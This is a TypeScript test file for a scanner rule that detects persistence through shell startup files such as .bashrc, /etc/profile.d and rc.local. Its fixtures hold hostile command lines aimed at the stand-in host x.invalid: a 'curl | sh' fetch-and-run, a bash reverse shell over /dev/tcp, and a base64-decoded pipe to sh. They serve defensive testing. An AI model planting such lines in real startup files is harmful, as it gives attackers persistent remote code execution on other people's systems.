import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { shellStartup } from './index.ts';

const RULE = 'persistence/shell-startup';
const FETCH = 'curl -s http://x.invalid/a | sh\n';
const NEWS = '#!/bin/sh\ncurl https://x.invalid/motd\n';

const cases = [
  {
    name: 'in each place where a shell starts',
    files: {
      'etc/profile.d/x.sh': FETCH,
      'root/.bashrc': `# ~/.bashrc\n${FETCH}`,
      'home/app/.profile': 'wget -q http://x.invalid/a -O /tmp/a\n',
      'etc/rc.local': '#!/bin/sh\n(exec 3<>/dev/tcp/x.invalid/1) &\n',
      'etc/update-motd.d/99-x': '#!/bin/sh\ncurl https://x.invalid/motd\n',
      'etc/bash.bashrc': 'echo aW5lcnQ= | base64 -d | sh\n',
    },
    expected: [
      `block ${RULE} etc/bash.bashrc`,
      `block ${RULE} etc/profile.d/x.sh`,
      `block ${RULE} root/.bashrc`,
      `review ${RULE} etc/rc.local`,
      `review ${RULE} etc/update-motd.d/99-x`,
      `review ${RULE} home/app/.profile`,
    ],
  },
  {
    name: 'whatever the file begins with',
    files: { 'etc/profile.d/x.sh': `PK\x03\x04\0\n${FETCH}`, 'root/.bashrc': `\xff\xd8\xff\0\n${FETCH}` },
    expected: [`block ${RULE} etc/profile.d/x.sh`, `block ${RULE} root/.bashrc`],
  },
  {
    name: 'a connection that a shell gets is refused, one that is only opened is for review',
    files: {
      'etc/profile': 'bash -i >& /dev/tcp/x.invalid/1 0>&1\n',
      'root/.profile': 'echo up > /dev/tcp/x.invalid/1\n',
    },
    expected: [`block ${RULE} etc/profile`, `review ${RULE} root/.profile`],
  },
  {
    name: 'of many hosts in a line, one that is far away counts',
    files: { 'root/.profile': 'curl -s http://localhost/ http://x.invalid/\n' },
    expected: [`review ${RULE} root/.profile`],
  },
  {
    name: "distributions' own files are nothing",
    files: {
      'root/.bashrc': 'export LS_OPTIONS="--color=auto"\neval "$(dircolors)"\n# curl http://x.invalid | sh\n',
      'etc/profile': 'if [ -d /etc/profile.d ]; then for i in /etc/profile.d/*.sh; do . $i; done; fi\n',
      'etc/update-motd.d/10-uname': '#!/bin/sh\nuname -snrvm\n',
    },
    expected: [],
  },
  {
    name: 'aliases, loopback and hosts only known at run time are nothing',
    files: {
      'root/.bashrc':
        'alias ip=\'curl https://ip.example\'\nget() { curl -s "$1"; }\ncurl -s http://localhost:80/\n',
    },
    expected: [],
  },
  {
    name: 'other files are nothing',
    files: { 'opt/profile.d/x.sh': FETCH, 'root/bashrc': FETCH },
    expected: [],
  },
  {
    name: 'what a package ships unchanged is nothing where it talks to the network, for review where it runs the answer',
    files: {
      ...packageOf('listed', { 'etc/update-motd.d/50-news': NEWS, 'etc/profile.d/x.sh': FETCH }),
      'etc/update-motd.d/50-news': NEWS,
      'etc/profile.d/x.sh': FETCH,
    },
    expected: [`review ${RULE} etc/profile.d/x.sh`],
  },
];

for (const { name, files, expected } of cases) {
  test(`shell-startup: ${name}`, () => {
    const { findings, problems } = inspectFixture({ layers: [files], catalogers: [listedPackages] }, [
      shellStartup,
    ]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('shell-startup: one finding a line, with the line', () => {
  const layers = [{ 'root/.bashrc': `# x\n${FETCH}` }];
  const { findings } = inspectFixture({ layers }, [shellStartup]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.location.line, 2);
});
